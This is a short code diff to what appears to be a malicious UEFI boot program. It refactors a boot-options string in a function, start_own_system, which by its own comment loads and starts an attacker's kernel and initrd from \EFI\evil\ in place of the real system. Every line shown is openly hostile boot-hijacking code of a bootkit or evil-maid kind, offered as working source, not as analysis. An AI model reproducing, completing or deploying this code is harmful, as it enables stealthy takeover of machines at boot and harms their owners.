@@ -62,10 +62,11 @@ static inline UINT8 *read_file(EFI_HANDLE self, CHAR16 *path, UINTN *ret_len)
 	return bytes;
 }
 
+static CHAR16 own_options[] = L"initrd=\\EFI\\evil\\initrd console=ttyS0 loglevel=4 panic=-1";
+
 /* A kernel and an initrd of the attacker's, \EFI\evil\vmlinuz and initrd. Comes back only if it doesn't start. */
 static inline EFI_STATUS start_own_system(EFI_HANDLE self)
 {
-	static CHAR16 options[] = L"initrd=\\EFI\\evil\\initrd console=ttyS0 loglevel=4 panic=-1";
 	EFI_LOADED_IMAGE *own, *next;
 	EFI_HANDLE image;
 	EFI_STATUS status;
@@ -76,8 +77,8 @@ static inline EFI_STATUS start_own_system(EFI_HANDLE self)
 	if (EFI_ERROR(status))
 		return status;
 	uefi_call_wrapper(BS->HandleProtocol, 3, image, &LoadedImageProtocol, (void **)&next);
-	next->LoadOptions = options;
-	next->LoadOptionsSize = sizeof options;
+	next->LoadOptions = own_options;
+	next->LoadOptionsSize = sizeof own_options;
 	return uefi_call_wrapper(BS->StartImage, 3, image, NULL, NULL);
 }
 
